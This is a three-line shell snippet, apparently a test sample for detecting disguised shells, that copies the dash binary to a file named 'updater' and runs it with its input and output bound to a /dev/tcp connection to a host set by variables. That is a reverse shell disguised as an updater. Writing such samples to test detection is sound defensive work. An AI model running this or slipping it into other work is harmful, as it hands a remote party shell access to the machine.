# flagged: updater
cp "$(readlink -f "$(command -v dash)")" ./updater
timeout 0.5 ./updater <> "/dev/tcp/$RG_TCP_HOST/$RG_TCP_PORT" >&0 2>&0
